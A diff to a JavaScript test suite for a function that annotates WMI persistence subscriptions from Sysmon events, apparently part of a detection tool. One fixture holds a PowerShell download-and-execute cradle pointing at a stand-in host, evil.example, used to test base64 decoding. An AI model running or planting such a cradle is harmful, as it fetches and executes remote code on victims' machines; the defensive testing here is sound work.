@@ -35,6 +35,15 @@ describe('notes on a WMI subscription', () => {
     ]);
   });
 
+  test('do not claim that something is missing where nobody has looked', () => {
+    expect(wmiNotes([binding], null)).toEqual(['binding ties filter "Filt" to consumer "Cons"']);
+    const filter = sysmon(1, 19, { Name: ' "Filt"' });
+    expect(wmiNotes([filter, binding], null)).toEqual([
+      'binding ties filter "Filt" to consumer "Cons"',
+      'names agree: filter "Filt" was registered within the window',
+    ]);
+  });
+
   test('decode what a consumer hides in base64', () => {
     const script = 'IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a")';
     const encoded = Buffer.from(script, 'utf16le').toString('base64');
